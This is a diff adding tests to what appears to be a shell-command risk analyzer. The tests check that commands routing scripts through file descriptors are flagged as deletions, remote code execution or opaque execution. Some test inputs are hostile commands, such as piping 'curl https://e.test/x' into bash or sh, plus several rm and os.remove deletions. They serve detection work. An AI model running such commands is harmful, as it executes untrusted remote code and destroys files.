@@ -175,6 +175,53 @@ describe('what the call itself put in the way of a shell', () => {
   }
 })
 
+describe('what a shell is fed from a descriptor', () => {
+  const SCRIPTS = { files: { '/repo/mk.sh': 'rm q', '/repo/a.txt': 'a' } }
+  for (const [text, expected] of [
+    ["exec 7< <(printf '%s\\n' '( rm x ); rm y'); bash <&7", 'delete /repo/y'],
+    ['exec 7< <(curl https://e.test/x); bash <&7', 'execute code:remote https://e.test/x'],
+    ['exec 3<mk.sh; . /dev/fd/3', 'delete /repo/q'],
+    ['exec 3<mk.sh; bash /dev/fd/3', 'delete /repo/q'],
+    ['exec 3<mk.sh; exec 4<&3-; bash <&4', 'delete /repo/q'],
+    ['bash /dev/fd/3 3< <(echo rm x)', 'delete /repo/x'],
+    [`python3 /dev/fd/3 3< <(echo 'import os; os.remove("x")')`, 'delete /repo/x'],
+    ['exec 5< <(echo rm x); cat <&5 | sh', 'delete /repo/x'],
+    ['exec 3< <(sed s/a/b/ mk.sh); bash <&3', 'opaque `bash` runs code that is not known before it runs'],
+    ['bash < <(sed s/a/b/ mk.sh)', 'opaque `bash` runs code that is not known before it runs'],
+    ['exec 3< <(sed s/a/b/ mk.sh); . /dev/fd/3', 'opaque `.` runs code that is not known before it runs'],
+    ['bash <&9', 'opaque `bash` runs code that is not known before it runs'],
+    ['exec < mk.sh; bash', 'delete /repo/q'],
+    ['exec 0< <(echo rm x); { bash; }', 'delete /repo/x'],
+    ['exec 3<mk.sh 0<&3; bash', 'delete /repo/q'],
+    ['exec 3< <(echo rm x); exec <&3; sh', 'delete /repo/x'],
+    ['exec < <(curl https://e.test/x); sh', 'execute code:remote https://e.test/x'],
+    ['if [ -f z ]; then exec < mk.sh; else exec < a.txt; fi; sh', 'opaque `sh` runs code that is not known before it runs'],
+    ["exec < mk.sh; bash -c 'bash'", 'delete /repo/q'],
+    ['exec 3<&0; echo rm x | { bash <&0; }', 'delete /repo/x'],
+  ] as const) {
+    test(text, () => {
+      const told = lines(text, SCRIPTS)
+      expect(told, told.join('\n')).toContain(expected)
+    })
+  }
+
+  for (const text of [
+    'exec < mk.sh; echo true | bash',
+    'exec < mk.sh; bash < /dev/null',
+    "exec < mk.sh; bash -c 'read x' <<< y",
+    'exec 3<mk.sh; read -r x <&3',
+    'exec 3</dev/null; bash <&3',
+    '(exec < mk.sh); bash',
+    'bash <&-',
+  ]) {
+    test(`not: ${text}`, () => expect(lines(text, SCRIPTS).filter((line) => /delete|opaque|execute/.test(line))).toEqual([]))
+  }
+
+  test('what is only read from there is no reverse shell', () => {
+    expect(lines('exec 7< <(curl https://e.test/x); bash <&7', SCRIPTS).filter((line) => line.includes('reverse'))).toEqual([])
+  })
+})
+
 describe('copies that are kept', () => {
   for (const [text, expected] of [
     ['perl -i.bak -pe1 a.txt', 'write fs:copy /repo/a.txt.bak'],
